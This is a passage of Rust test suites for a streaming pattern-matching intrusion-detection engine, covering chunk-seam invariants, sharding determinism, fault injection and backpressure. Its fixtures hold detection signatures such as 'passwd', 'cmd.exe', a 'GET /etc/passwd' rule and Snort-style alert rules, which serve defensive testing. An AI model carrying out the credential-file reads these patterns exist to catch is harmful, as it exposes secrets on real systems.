        hay in bytes_strategy(200),
    ) {
        let expected = naive_find_all(&set, &hay);
        for engine in engines(&set) {
            let name = engine.name();
            let got = streamed_matches(engine, &set, &hay, &[1]);
            prop_assert_eq!(
                &got, &expected,
                "{} diverged from one-shot scan on 1-byte chunks",
                name
            );
        }
    }
}

/// Exhaustive boundary cuts: for every pattern and every cut position inside
/// it, split the stream exactly there and require the match to be found —
/// the deterministic core of the carry-over invariant.
#[test]
fn every_cut_inside_every_pattern_is_found() {
    let set = PatternSet::from_literals(&["GET /", "passwd", "ab", "aaaa", "x"]);
    for (id, pattern) in set.iter() {
        let needle = pattern.bytes();
        let mut hay = Vec::new();
        hay.extend_from_slice(b"..");
        hay.extend_from_slice(needle);
        hay.extend_from_slice(b"..");
        let expected = naive_find_all(&set, &hay);
        for cut in 1..needle.len() {
            let boundary = 2 + cut; // stream offset of the cut
            for engine in engines(&set) {
                let name = engine.name();
                let mut scanner = StreamScanner::new(engine, &set);
                let mut got = Vec::new();
                scanner.push(&hay[..boundary], &mut got);
                scanner.push(&hay[boundary..], &mut got);
                normalize_matches(&mut got);
                assert_eq!(
                    got, expected,
                    "{name}: pattern {id} cut at {cut} lost a match"
                );
            }
        }
    }
}
