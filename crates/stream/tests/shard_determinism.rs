//! Sharding must not change results: the same packet batch scanned with 1
//! worker and with N workers yields an identical merged match set and
//! identical summed (deterministic) statistics, and the merged set equals a
//! per-flow one-shot scan of the reassembled streams.

use mpm_patterns::naive::naive_find_all;
use mpm_patterns::PatternSet;
use mpm_stream::{FlowMatch, Packet, ScannerBuilder, SharedMatcher};
use mpm_traffic::{TraceGenerator, TraceKind, TraceSpec};
use mpm_vpatch::build_auto;
use std::collections::BTreeMap;
use std::sync::Arc;

/// A deterministic, realistic packet batch: one ISCX-like trace (with
/// injected rule occurrences) cut into variable-size packets striped over
/// `flows` flows.
fn packet_batch(rules: &PatternSet, bytes: usize, flows: u64) -> Vec<Packet> {
    let trace = TraceGenerator::generate(&TraceSpec::new(TraceKind::IscxDay2, bytes), Some(rules));
    let mut packets = Vec::new();
    let mut pos = 0;
    let mut n = 0u64;
    // Vary packet sizes so cuts land inside patterns; keep them deterministic.
    let sizes = [301, 17, 997, 64, 1460, 5, 233];
    while pos < trace.len() {
        let take = sizes[(n as usize) % sizes.len()].min(trace.len() - pos);
        packets.push(Packet::new(n % flows, trace[pos..pos + take].to_vec()));
        pos += take;
        n += 1;
    }
    packets
}

/// Worker counts under test: the full ladder by default, or exactly the
/// count the CI matrix pins via `MPM_WORKERS`.
fn worker_counts(default: &[usize]) -> Vec<usize> {
    match std::env::var("MPM_WORKERS") {
        Ok(v) => vec![v.parse().expect("MPM_WORKERS must be a positive integer")],
        Err(_) => default.to_vec(),
    }
}

/// Reassembles the per-flow streams of a batch (ground truth for the
/// sharded scan).
fn reassemble(packets: &[Packet]) -> BTreeMap<u64, Vec<u8>> {
    let mut flows: BTreeMap<u64, Vec<u8>> = BTreeMap::new();
    for packet in packets {
        flows
            .entry(packet.flow)
            .or_default()
            .extend_from_slice(&packet.payload);
    }
    flows
}

#[test]
fn one_worker_and_n_workers_agree() {
    let rules = PatternSet::from_literals(&[
        "GET /",
        "passwd",
        "cmd.exe",
        "needle",
        "ab",
        "User-Agent",
        "aaaa",
    ]);
    let engine: SharedMatcher = Arc::from(build_auto(&rules));
    let packets = packet_batch(&rules, 256 * 1024, 13);
    let total_bytes: u64 = packets.iter().map(|p| p.payload.len() as u64).sum();

    let mut baseline: Option<Vec<FlowMatch>> = None;
    for workers in worker_counts(&[1, 2, 4, 7]) {
        let mut scanner = ScannerBuilder::new()
            .engine(engine.clone(), &rules)
            .workers(workers)
            .build_barrier()
            .expect("valid build");
        let result = scanner.scan_batch(packets.clone());
        assert_eq!(
            result.stats.bytes_scanned, total_bytes,
            "{workers} workers: every payload byte scanned exactly once"
        );
        assert_eq!(
            result.stats.matches,
            result.matches.len() as u64,
            "{workers} workers: stats.matches consistent with the match set"
        );
        // The continuously-running pipeline must report the byte-identical
        // sorted match set the barrier scanner does, with a latency sample
        // for every packet.
        let mut pipeline = ScannerBuilder::new()
            .engine(engine.clone(), &rules)
            .workers(workers)
            .build()
            .expect("valid build");
        let piped = pipeline.scan_batch(packets.clone()).expect("workers alive");
        assert_eq!(
            piped.matches, result.matches,
            "{workers} workers: pipeline diverged from the barrier scanner"
        );
        assert_eq!(piped.stats.bytes_scanned, total_bytes);
        assert_eq!(piped.latency.count, packets.len() as u64);
        match &baseline {
            None => baseline = Some(result.matches),
            Some(expected) => assert_eq!(
                &result.matches, expected,
                "{workers} workers changed the merged match set"
            ),
        }
    }

    // The merged set is also exactly what one-shot per-flow scans report.
    let expected: Vec<FlowMatch> = reassemble(&packets)
        .into_iter()
        .flat_map(|(flow, stream)| {
            naive_find_all(&rules, &stream)
                .into_iter()
                .map(move |event| FlowMatch { flow, event })
        })
        .collect();
    let mut expected = expected;
    expected.sort_unstable();
    assert_eq!(baseline.unwrap(), expected);
}

#[test]
fn repeated_batches_are_deterministic_and_stateful() {
    let rules = PatternSet::from_literals(&["splitme", "GET /"]);
    let engine: SharedMatcher = Arc::from(build_auto(&rules));
    // Two batches; "splitme" is cut across the batch boundary within flow 3.
    let first = vec![
        Packet::new(3, b"...spli".to_vec()),
        Packet::new(4, b"GET /index".to_vec()),
    ];
    let second = vec![Packet::new(3, b"tme...".to_vec())];

    for workers in worker_counts(&[1, 4]) {
        let mut scanner = ScannerBuilder::new()
            .engine(engine.clone(), &rules)
            .workers(workers)
            .build_barrier()
            .expect("valid build");
        let a = scanner.scan_batch(first.clone());
        assert_eq!(a.matches.len(), 1, "{workers} workers");
        assert_eq!(a.matches[0].flow, 4);
        let b = scanner.scan_batch(second.clone());
        assert_eq!(b.matches.len(), 1, "{workers} workers");
        assert_eq!(b.matches[0].flow, 3);
        assert_eq!(b.matches[0].event.start, 3);
        assert_eq!(engine.max_pattern_len(), 7);
    }
}
