//! Deterministic fault-injection suite for the pipeline's supervision and
//! overload machinery (requires `--features fault-inject`).
//!
//! Every scenario scripts its failure through a [`FaultPlan`] keyed on
//! per-worker packet sequence numbers, so the same fault fires at the same
//! point on every run: worker panics (caught, reported, respawned, flows
//! quarantined), silent worker exits (surfaced as `PipelineError::WorkerLost`
//! instead of a hang), forced ring-full (exact shed accounting), buffer-cap
//! degradation counters, and idle eviction driven by a mock clock instead
//! of wall-time sleeps.

use mpm_patterns::rule::{Rule, RuleContent, RuleSet};
use mpm_patterns::{NaiveMatcher, PatternSet, ProtocolGroup};
use mpm_stream::{
    BackpressurePolicy, EvictionPolicy, FaultPlan, FlowMatch, Packet, PipelineError,
    ScannerBuilder, SharedMatcher,
};
use mpm_vpatch::build_auto;
use std::sync::Arc;
use std::time::Duration;

fn engine_for(set: &PatternSet) -> SharedMatcher {
    Arc::from(build_auto(set))
}

/// Matches of one flow, sorted the way `drain` reports them.
fn of_flow(matches: &[FlowMatch], flow: u64) -> Vec<FlowMatch> {
    matches.iter().filter(|m| m.flow == flow).cloned().collect()
}

#[test]
fn panicking_worker_is_respawned_and_its_flows_quarantined() {
    let set = PatternSet::from_literals(&["attack"]);
    let engine = engine_for(&set);
    // Per flow: "..att" + "ack.." + "..attack.." — a straddle match at
    // offset 2 (reported while scanning packet 2) and a second match at
    // offset 12 (packet 3).
    let payloads: [&[u8]; 3] = [b"..att", b"ack..", b"..attack.."];

    // Pick flow ids deterministically: the victim is the first flow id on
    // worker 0, plus seven more flows on either worker.
    let probe = ScannerBuilder::new()
        .engine(engine.clone(), &set)
        .workers(2)
        .build()
        .expect("valid build");
    let victim = (0u64..)
        .find(|&f| probe.worker_of(f) == 0)
        .expect("some flow on worker 0");
    let others: Vec<u64> = (0u64..).filter(|&f| f != victim).take(7).collect();
    drop(probe);

    let dispatch_all = |pipeline: &mut mpm_stream::PipelineScanner| {
        // Victim first: worker 0's packets 1..=3 are the victim's, so the
        // injected panic at packet 3 fires with exactly the victim
        // resident — deterministic quarantine.
        for payload in payloads {
            pipeline.dispatch(Packet::new(victim, payload.to_vec()));
        }
        for &flow in &others {
            for payload in payloads {
                pipeline.dispatch(Packet::new(flow, payload.to_vec()));
            }
        }
    };

    // Fault-free baseline.
    let mut clean = ScannerBuilder::new()
        .engine(engine.clone(), &set)
        .workers(2)
        .build()
        .expect("valid build");
    dispatch_all(&mut clean);
    let baseline = clean.drain().expect("workers alive");
    assert_eq!(baseline.matches.len(), 2 * 8, "two matches per flow");

    // Faulted run: worker 0 panics while handling its 3rd packet.
    let plan = Arc::new(FaultPlan::new().panic_on(0, 3));
    let mut faulted = ScannerBuilder::new()
        .engine(engine.clone(), &set)
        .workers(2)
        .fault_plan(plan)
        .build()
        .expect("valid build");
    dispatch_all(&mut faulted);
    let stats = faulted.drain().expect("supervised drain completes");

    assert_eq!(stats.worker_restarts.len(), 1);
    assert_eq!(stats.worker_restarts[0].worker, 0);
    assert!(
        stats.worker_restarts[0].message.contains("fault-inject"),
        "restart carries the panic message: {}",
        stats.worker_restarts[0].message
    );
    assert_eq!(
        stats.flow_errors.len(),
        1,
        "exactly the victim was resident at death"
    );
    assert_eq!(stats.flow_errors[0].flow, victim);
    assert_eq!(stats.flow_errors[0].worker, 0);

    // The victim's straddle match (packet 2) was reported before the
    // death; the packet-3 match died with the worker.
    let victim_matches = of_flow(&stats.matches, victim);
    assert_eq!(victim_matches.len(), 1);
    assert_eq!(victim_matches[0].event.start, 2);
    // Every other flow — including worker-0 flows replayed from the
    // reclaimed ring onto the fresh worker — is byte-identical to the
    // fault-free run.
    for &flow in &others {
        assert_eq!(
            of_flow(&stats.matches, flow),
            of_flow(&baseline.matches, flow),
            "flow {flow} unaffected by the fault"
        );
    }

    // The pipeline stays functional after recovery.
    faulted.dispatch(Packet::new(victim, b"..attack..".to_vec()));
    let after = faulted.drain().expect("workers alive");
    assert_eq!(after.worker_restarts.len(), 0);
    assert_eq!(after.flow_errors.len(), 0);
    assert_eq!(after.matches.len(), 1, "fresh stream for the victim");
    assert_eq!(after.matches[0].event.start, 2);
}

#[test]
fn silently_exiting_worker_is_surfaced_once_then_pipeline_recovers() {
    let set = PatternSet::from_literals(&["needle"]);
    let engine = engine_for(&set);
    let plan = Arc::new(FaultPlan::new().exit_on(0, 2));
    let mut pipeline = ScannerBuilder::new()
        .engine(engine.clone(), &set)
        .workers(1)
        .fault_plan(plan)
        .build()
        .expect("valid build");
    for f in 0..3u64 {
        pipeline.dispatch(Packet::new(f, b"..needle..".to_vec()));
    }
    // One of the next drains reports the vanished worker — exactly once —
    // and the others succeed (recovery happens either at drain entry or
    // inside the drain wait loop, depending on when the exit lands).
    let mut restarts = Vec::new();
    let mut lost = Vec::new();
    for _ in 0..3 {
        match pipeline.drain() {
            Ok(stats) => restarts.extend(stats.worker_restarts),
            Err(err) => lost.push(err),
        }
    }
    assert_eq!(lost, vec![PipelineError::WorkerLost { worker: 0 }]);
    assert_eq!(restarts.len(), 1);
    assert!(
        restarts[0].message.contains("without a report"),
        "silent exits have no panic message: {}",
        restarts[0].message
    );
    // Fully functional afterwards.
    pipeline.dispatch(Packet::new(9, b"..needle..".to_vec()));
    let after = pipeline.drain().expect("workers alive");
    assert_eq!(after.matches.len(), 1);
    assert!(after.worker_restarts.is_empty());
}

#[test]
fn forced_ring_full_sheds_exactly_the_scripted_count() {
    let set = PatternSet::from_literals(&["needle"]);
    let engine = engine_for(&set);
    let plan = Arc::new(FaultPlan::new());
    let mut pipeline = ScannerBuilder::new()
        .engine(engine.clone(), &set)
        .workers(1)
        .backpressure(BackpressurePolicy::Shed)
        .fault_plan(plan.clone())
        .build()
        .expect("valid build");
    plan.force_ring_full(0, 5);
    let payload = b"..needle..".to_vec();
    let accepted = (0..20)
        .filter(|&i| pipeline.dispatch(Packet::new(i, payload.clone())))
        .count();
    assert_eq!(accepted, 15, "exactly the scripted 5 pushes are refused");
    let stats = pipeline.drain().expect("workers alive");
    assert_eq!(stats.shed_packets, 5);
    assert_eq!(stats.workers[0].shed_packets, 5);
    assert_eq!(
        stats.stats.bytes_scanned,
        15 * payload.len() as u64,
        "shed packets are never scanned"
    );
    // The budget is consumed: subsequent dispatches all land.
    assert!(pipeline.dispatch(Packet::new(99, payload.clone())));
    let after = pipeline.drain().expect("workers alive");
    assert_eq!(after.shed_packets, 0);
}

#[test]
fn block_timeout_sheds_after_the_deadline_and_recovers_on_disarm() {
    let set = PatternSet::from_literals(&["needle"]);
    let engine = engine_for(&set);
    let plan = Arc::new(FaultPlan::new());
    let mut pipeline = ScannerBuilder::new()
        .engine(engine.clone(), &set)
        .workers(1)
        .backpressure(BackpressurePolicy::BlockTimeout(Duration::from_millis(2)))
        .fault_plan(plan.clone())
        .build()
        .expect("valid build");
    // Unbounded refusal: every dispatch waits out its deadline, then sheds.
    plan.force_ring_full(0, u64::MAX);
    let payload = b"..needle..".to_vec();
    for i in 0..3u64 {
        assert!(
            !pipeline.dispatch(Packet::new(i, payload.clone())),
            "dispatch {i} must shed after the timeout"
        );
    }
    plan.force_ring_full(0, 0); // disarm
    assert!(pipeline.dispatch(Packet::new(7, payload.clone())));
    let stats = pipeline.drain().expect("workers alive");
    assert_eq!(stats.shed_packets, 3);
    assert!(
        stats.backpressure_waits > 0,
        "the timeout path counts its waits"
    );
    assert_eq!(stats.stats.bytes_scanned, payload.len() as u64);
}

#[test]
fn buffer_capped_flows_degrade_with_exact_counters() {
    // Rule 0: "attack" then "body" at distance 0; rule 1: "passwd".
    let set = RuleSet::new(vec![
        Rule::new(
            ProtocolGroup::Any,
            vec![
                RuleContent::new(*b"attack"),
                RuleContent::new(*b"body").with_distance(0),
            ],
        ),
        Rule::new(ProtocolGroup::Any, vec![RuleContent::new(*b"passwd")]),
    ]);
    let engine: SharedMatcher = Arc::new(NaiveMatcher::new(set.anchors()));
    let mut pipeline = ScannerBuilder::new()
        .rules(engine, &set)
        .workers(1)
        .max_flow_buffer(16)
        .build()
        .expect("valid build");
    // Flow 1 stays under the cap (14 buffered bytes) and confirms rule 0.
    pipeline.dispatch(Packet::new(1, b"..attack".to_vec()));
    pipeline.dispatch(Packet::new(1, b"body..".to_vec()));
    // Flow 2 crosses the cap on its first packet (32 > 16: 16 bytes kept,
    // 16 truncated, buffer released) and then ships a "passwd" the flow
    // can no longer confirm — but whose anchor is still reported.
    pipeline.dispatch(Packet::new(2, vec![b'.'; 32]));
    pipeline.dispatch(Packet::new(2, b"..passwd..".to_vec()));
    let stats = pipeline.drain().expect("workers alive");

    assert_eq!(stats.degraded_flows, 1, "only flow 2 degraded");
    assert_eq!(
        stats.truncated_bytes,
        16 + 10,
        "16 over-cap bytes of packet 3 plus all of packet 4"
    );
    assert_eq!(
        stats.buffered_bytes, 14,
        "flow 1's buffer is live, flow 2's was released"
    );
    let rules_confirmed: Vec<usize> = stats.rule_matches.iter().map(|m| m.rule.index()).collect();
    assert_eq!(rules_confirmed, vec![0], "flow 1 confirms, flow 2 cannot");
    assert!(
        stats
            .matches
            .iter()
            .any(|m| m.flow == 2 && m.event.start == 34),
        "flow 2's post-cap anchor is still visible"
    );
    // A degraded flow keeps counting truncation until closed.
    pipeline.dispatch(Packet::new(2, b"xxxx".to_vec()));
    let more = pipeline.drain().expect("workers alive");
    assert_eq!(more.truncated_bytes, 4);
    assert_eq!(
        more.degraded_flows, 1,
        "gauge: still resident, still degraded"
    );
    // Closing the flow releases the degraded state entirely.
    pipeline.close_flow(2);
    let closed = pipeline.drain().expect("workers alive");
    assert_eq!(closed.degraded_flows, 0);
}

#[test]
fn mock_clock_drives_idle_eviction_without_sleeping() {
    let set = PatternSet::from_literals(&["needle"]);
    let engine = engine_for(&set);
    let plan = Arc::new(FaultPlan::new());
    let mut pipeline = ScannerBuilder::new()
        .engine(engine.clone(), &set)
        .workers(1)
        .eviction(EvictionPolicy::idle_after(Duration::from_secs(60)))
        .fault_plan(plan.clone())
        .build()
        .expect("valid build");
    for f in 0..5u64 {
        pipeline.dispatch(Packet::new(f, b"..needle..".to_vec()));
    }
    let before = pipeline.drain().expect("workers alive");
    assert_eq!(before.resident_flows, 5);
    assert_eq!(before.evicted_flows, 0);
    // Two simulated minutes pass; no wall-clock sleep involved.
    plan.advance_clock(Duration::from_secs(120));
    let after = pipeline.drain().expect("workers alive");
    assert_eq!(after.evicted_flows, 5, "all flows idle past the timeout");
    assert_eq!(after.resident_flows, 0);
}
