//! The rule-confirmation streaming invariant: for any chunking of any flow,
//! [`RuleStreamScanner`] confirms exactly the rules (at exactly the
//! offsets) that `naive_rule_find_all` reports for the concatenated
//! payload — in particular when a **secondary** content, or the positional
//! window tying it to the anchor, straddles a chunk seam. Deterministic
//! every-cut-point sweeps complement the random-chunking property tests in
//! the workspace's `tests/rule_confirmation_differential.rs`.

use mpm_patterns::rule::{naive_rule_find_all, Rule, RuleContent, RuleId, RuleSet};
use mpm_patterns::{NaiveMatcher, ProtocolGroup};
use mpm_simd::{Avx2Backend, Avx512Backend, BackendKind, ScalarBackend};
use mpm_stream::{Packet, RuleStreamScanner, ScannerBuilder, SharedMatcher};
use mpm_vpatch::{SPatch, VPatch};
use std::sync::Arc;

fn ruleset(rules: Vec<Vec<RuleContent>>) -> RuleSet {
    RuleSet::new(
        rules
            .into_iter()
            .map(|contents| Rule::new(ProtocolGroup::Any, contents))
            .collect(),
    )
}

/// Anchor engines spanning the engine families, plus every backend this
/// run can dispatch to (`MPM_FORCE_BACKEND` narrows the list).
fn engines(set: &RuleSet) -> Vec<SharedMatcher> {
    let anchors = set.anchors();
    let mut engines: Vec<SharedMatcher> = vec![
        Arc::new(NaiveMatcher::new(anchors)),
        Arc::from(SPatch::build(anchors)),
        Arc::from(VPatch::<ScalarBackend, 8>::build(anchors)),
    ];
    for kind in mpm_simd::available_backends() {
        match kind {
            BackendKind::Scalar => {}
            BackendKind::Avx2 => {
                engines.push(Arc::from(VPatch::<Avx2Backend, 8>::build(anchors)));
            }
            BackendKind::Avx512 => {
                engines.push(Arc::from(VPatch::<Avx512Backend, 16>::build(anchors)));
            }
        }
    }
    engines
}

/// Rules whose secondary contents and windows exercise every constraint
/// kind, paired with a payload on which they all confirm.
fn seam_fixture() -> (RuleSet, Vec<u8>) {
    let set = ruleset(vec![
        // Chained relative windows: anchor .. distance .. within.
        vec![
            RuleContent::new(*b"GET "),
            RuleContent::new(*b"/etc/").with_distance(0),
            RuleContent::new(*b"passwd")
                .with_distance(0)
                .with_within(10),
        ],
        // Negative distance: secondary overlaps the anchor's tail.
        vec![
            RuleContent::new(*b"abcd"),
            RuleContent::new(*b"cdef").with_distance(-2),
        ],
        // Absolute window on the secondary content.
        vec![
            RuleContent::new(*b"HTTP"),
            RuleContent::new(*b"Host").with_offset(20).with_depth(24),
        ],
        // nocase secondary.
        vec![
            RuleContent::new(*b"user"),
            RuleContent::new(*b"PASS")
                .with_nocase(true)
                .with_distance(1),
        ],
    ]);
    let payload = b"GET /etc/passwd abcdef HTTP/1.1 ..Host user: pass".to_vec();
    (set, payload)
}

/// Every two-chunk split of the payload — every possible seam, including
/// ones inside each secondary content and inside each constraint window —
/// must confirm the same rules at the same offsets as one-shot.
#[test]
fn every_cut_point_confirms_the_same_rules() {
    let (set, payload) = seam_fixture();
    let expected = naive_rule_find_all(&set, &payload);
    assert_eq!(expected.len(), set.len(), "fixture: every rule confirms");
    for engine in engines(&set) {
        let name = engine.name();
        for cut in 0..=payload.len() {
            let mut scanner = RuleStreamScanner::new(engine.clone(), &set);
            let (mut anchors, mut rules) = (Vec::new(), Vec::new());
            scanner.push(&payload[..cut], &mut anchors, &mut rules);
            scanner.push(&payload[cut..], &mut anchors, &mut rules);
            rules.sort_unstable();
            assert_eq!(rules, expected, "{name}: cut at {cut} diverged");
        }
    }
}

/// 1-byte chunks: the most seams a stream can have.
#[test]
fn one_byte_chunks_confirm_the_same_rules() {
    let (set, payload) = seam_fixture();
    let expected = naive_rule_find_all(&set, &payload);
    for engine in engines(&set) {
        let name = engine.name();
        let mut scanner = RuleStreamScanner::new(engine, &set);
        let (mut anchors, mut rules) = (Vec::new(), Vec::new());
        for &b in &payload {
            scanner.push(&[b], &mut anchors, &mut rules);
        }
        rules.sort_unstable();
        assert_eq!(rules, expected, "{name}: 1-byte chunks diverged");
    }
}

/// A rule must confirm on exactly the push whose bytes complete its minimal
/// satisfiable prefix — never earlier (the window is still open) and never
/// twice.
#[test]
fn confirmation_lands_on_the_completing_push() {
    let set = ruleset(vec![vec![
        RuleContent::new(*b"head"),
        RuleContent::new(*b"tail").with_distance(2).with_within(10),
    ]]);
    let payload = b"..head..xx..tail..";
    let expected = naive_rule_find_all(&set, payload);
    assert_eq!(expected.len(), 1);
    let minimal_end = expected[0].end;
    for engine in engines(&set) {
        let name = engine.name();
        let mut scanner = RuleStreamScanner::new(engine, &set);
        let (mut anchors, mut rules) = (Vec::new(), Vec::new());
        for (i, &b) in payload.iter().enumerate() {
            let before = rules.len();
            scanner.push(&[b], &mut anchors, &mut rules);
            if i + 1 == minimal_end {
                assert_eq!(rules.len(), before + 1, "{name}: late at byte {i}");
            } else {
                assert_eq!(rules.len(), before, "{name}: early/duplicate at byte {i}");
            }
        }
        assert_eq!(rules, expected, "{name}");
    }
}

/// Sharded rule mode: packets of one flow cut at every seam across *two
/// batches* still confirm, and worker count never changes the result.
#[test]
fn sharded_rule_confirmation_survives_every_packet_seam() {
    let (set, payload) = seam_fixture();
    let expected: Vec<(u64, RuleId, usize)> = naive_rule_find_all(&set, &payload)
        .into_iter()
        .map(|m| (5u64, m.rule, m.end))
        .collect();
    let engine: SharedMatcher = Arc::new(NaiveMatcher::new(set.anchors()));
    for cut in 0..=payload.len() {
        for workers in [1usize, 4] {
            let mut scanner = ScannerBuilder::new()
                .rules(engine.clone(), &set)
                .workers(workers)
                .build_barrier()
                .expect("valid build");
            let mut confirmed = Vec::new();
            let first = scanner.scan_batch(vec![Packet::new(5, payload[..cut].to_vec())]);
            confirmed.extend(first.rule_matches);
            let second = scanner.scan_batch(vec![Packet::new(5, payload[cut..].to_vec())]);
            confirmed.extend(second.rule_matches);
            let got: Vec<(u64, RuleId, usize)> =
                confirmed.iter().map(|m| (m.flow, m.rule, m.end)).collect();
            assert_eq!(
                got, expected,
                "cut at {cut} with {workers} workers diverged"
            );
        }
    }
}
