//! The pipeline's core contract: for the same packets, the
//! continuously-running `PipelineScanner` reports **byte-identical** sorted
//! match sets to the batch-and-join `ShardedScanner`, in every mode
//! (plain / rules / grouped), at every worker count, under backpressure
//! (rings far smaller than the batch) and under flow eviction — while also
//! producing the latency and utilization telemetry the barrier scanner
//! cannot.

use mpm_patterns::group::GroupedRuleSet;
use mpm_patterns::ports::{FlowTuple, Proto};
use mpm_patterns::rule::{Rule, RuleContent, RuleSet};
use mpm_patterns::snort::{parse_grouped, ParseOptions};
use mpm_patterns::{NaiveMatcher, PatternSet, ProtocolGroup};
use mpm_stream::{EvictionPolicy, GroupedEngineSet, Packet, ScannerBuilder, SharedMatcher};
use mpm_traffic::{TraceGenerator, TraceKind, TraceSpec};
use mpm_vpatch::build_auto;
use std::sync::Arc;
use std::time::Duration;

fn worker_counts(default: &[usize]) -> Vec<usize> {
    match std::env::var("MPM_WORKERS") {
        Ok(v) => vec![v.parse().expect("MPM_WORKERS must be a positive integer")],
        Err(_) => default.to_vec(),
    }
}

/// A deterministic trace cut into packets striped over `flows` flows, with
/// tuples attached so grouped mode selects per-flow groups.
fn packet_batch(rules: &PatternSet, bytes: usize, flows: u64) -> Vec<Packet> {
    let trace = TraceGenerator::generate(&TraceSpec::new(TraceKind::IscxDay2, bytes), Some(rules));
    let mut packets = Vec::new();
    let (mut pos, mut n) = (0, 0u64);
    let sizes = [301, 17, 997, 64, 1460, 5, 233];
    while pos < trace.len() {
        let take = sizes[(n as usize) % sizes.len()].min(trace.len() - pos);
        let flow = n % flows;
        let tuple = match flow % 3 {
            0 => Some(FlowTuple::new(Proto::Tcp, 40000 + flow as u16, 80)),
            1 => Some(FlowTuple::new(Proto::Udp, 1000 + flow as u16, 53)),
            _ => None,
        };
        packets.push(match tuple {
            Some(t) => Packet::new_with_tuple(flow, trace[pos..pos + take].to_vec(), t),
            None => Packet::new(flow, trace[pos..pos + take].to_vec()),
        });
        pos += take;
        n += 1;
    }
    packets
}

#[test]
fn plain_mode_pipeline_equals_barrier_at_every_worker_count() {
    let rules = PatternSet::from_literals(&["GET /", "passwd", "needle", "ab", "aaaa"]);
    let engine: SharedMatcher = Arc::from(build_auto(&rules));
    let packets = packet_batch(&rules, 128 * 1024, 11);
    for workers in worker_counts(&[1, 2, 4]) {
        let mut barrier = ScannerBuilder::new()
            .engine(engine.clone(), &rules)
            .workers(workers)
            .build_barrier()
            .expect("valid build");
        let expected = barrier.scan_batch(packets.clone());
        let mut pipeline = ScannerBuilder::new()
            .engine(engine.clone(), &rules)
            .workers(workers)
            .build()
            .expect("valid build");
        let got = pipeline.scan_batch(packets.clone()).expect("workers alive");
        assert_eq!(got.matches, expected.matches, "{workers} workers");
        assert_eq!(got.stats.bytes_scanned, expected.stats.bytes_scanned);
        assert_eq!(got.stats.matches, expected.stats.matches);
        assert_eq!(got.resident_flows, expected.resident_flows);
        // Telemetry sanity: one latency sample per packet, every packet
        // accounted to exactly one worker, occupancy within the ring.
        assert_eq!(got.latency.count, packets.len() as u64);
        assert!(got.latency.p50_ns <= got.latency.p99_ns);
        assert!(got.latency.p999_ns <= got.latency.max_ns);
        assert_eq!(got.histogram.count(), got.latency.count);
        assert_eq!(got.workers.len(), workers);
        let packets_by_worker: u64 = got.workers.iter().map(|w| w.packets).sum();
        assert_eq!(packets_by_worker, packets.len() as u64);
        for w in &got.workers {
            let u = w.utilization();
            assert!((0.0..=1.0).contains(&u), "utilization {u} out of range");
            assert!(w.max_ring_occupancy <= w.ring_capacity);
            assert_eq!(w.ring_capacity, pipeline.ring_capacity());
        }
    }
}

fn rules_fixture() -> RuleSet {
    RuleSet::new(vec![
        Rule::new(
            ProtocolGroup::Any,
            vec![
                RuleContent::new(*b"attack"),
                RuleContent::new(*b"body").with_distance(0),
            ],
        ),
        Rule::new(ProtocolGroup::Any, vec![RuleContent::new(*b"passwd")]),
    ])
}

#[test]
fn rule_mode_pipeline_equals_barrier() {
    let set = rules_fixture();
    let engine: SharedMatcher = Arc::new(NaiveMatcher::new(set.anchors()));
    let packets: Vec<Packet> = (0..40u64)
        .flat_map(|f| {
            vec![
                Packet::new(f, format!("..atta{f}").into_bytes()),
                Packet::new(f, b"attack passwd ".to_vec()),
                Packet::new(f, b"body..".to_vec()),
            ]
        })
        .collect();
    for workers in worker_counts(&[1, 3]) {
        let mut barrier = ScannerBuilder::new()
            .rules(engine.clone(), &set)
            .workers(workers)
            .build_barrier()
            .expect("valid build");
        let expected = barrier.scan_batch(packets.clone());
        let mut pipeline = ScannerBuilder::new()
            .rules(engine.clone(), &set)
            .workers(workers)
            .build()
            .expect("valid build");
        let got = pipeline.scan_batch(packets.clone()).expect("workers alive");
        assert_eq!(got.matches, expected.matches, "{workers} workers");
        assert_eq!(got.rule_matches, expected.rule_matches);
        assert!(!got.rule_matches.is_empty());
    }
}

fn grouped_engines() -> Arc<GroupedEngineSet> {
    let text = r#"
alert tcp any any -> any 80 (msg:"web"; content:"GET /admin"; sid:1;)
alert udp any any -> any 53 (msg:"dns"; content:"querydata"; sid:2;)
alert ip any any -> any any (msg:"any"; content:"evil-bytes"; sid:3;)
"#;
    let grouped = GroupedRuleSet::new(parse_grouped(text, ParseOptions::default()).unwrap());
    Arc::new(GroupedEngineSet::build_with(grouped, |set, _| {
        Arc::from(NaiveMatcher::new(set))
    }))
}

#[test]
fn grouped_mode_pipeline_equals_barrier() {
    let engines = grouped_engines();
    let packets: Vec<Packet> = (0..30u64)
        .flat_map(|f| {
            let tuple = if f % 2 == 0 {
                FlowTuple::new(Proto::Tcp, 40000 + f as u16, 80)
            } else {
                FlowTuple::new(Proto::Udp, 1000 + f as u16, 53)
            };
            vec![
                Packet::new_with_tuple(f, b"GET /ad".to_vec(), tuple),
                Packet::new(f, b"min querydata evil-bytes".to_vec()),
            ]
        })
        .collect();
    for workers in worker_counts(&[1, 4]) {
        let mut barrier = ScannerBuilder::new()
            .groups(engines.clone())
            .workers(workers)
            .build_barrier()
            .expect("valid build");
        let expected = barrier.scan_batch(packets.clone());
        let mut pipeline = ScannerBuilder::new()
            .groups(engines.clone())
            .workers(workers)
            .build()
            .expect("valid build");
        let got = pipeline.scan_batch(packets.clone()).expect("workers alive");
        assert!(got.matches.is_empty(), "grouped mode reports rules only");
        assert_eq!(got.rule_matches, expected.rule_matches, "{workers} workers");
        assert_eq!(got.stats.matches, expected.stats.matches);
    }
}

#[test]
fn backpressure_on_tiny_rings_loses_nothing() {
    // Rings of 2 slots against a 2000-packet burst: dispatch must engage
    // backpressure (blocking + draining, never dropping or deadlocking) and
    // the result must still be byte-identical to the barrier scan.
    let rules = PatternSet::from_literals(&["needle", "ab"]);
    let engine: SharedMatcher = Arc::from(build_auto(&rules));
    let packets: Vec<Packet> = (0..2000u64)
        .map(|i| Packet::new(i % 17, b"..needle..ab..".to_vec()))
        .collect();
    let mut barrier = ScannerBuilder::new()
        .engine(engine.clone(), &rules)
        .workers(2)
        .build_barrier()
        .expect("valid build");
    let expected = barrier.scan_batch(packets.clone());
    let mut pipeline = ScannerBuilder::new()
        .engine(engine.clone(), &rules)
        .workers(2)
        .ring_capacity(2)
        .build()
        .expect("valid build");
    let got = pipeline.scan_batch(packets.clone()).expect("workers alive");
    assert_eq!(got.matches, expected.matches);
    assert_eq!(got.stats.bytes_scanned, expected.stats.bytes_scanned);
    assert!(
        got.backpressure_waits > 0,
        "2-slot rings under a 2000-packet burst must push back"
    );
}

#[test]
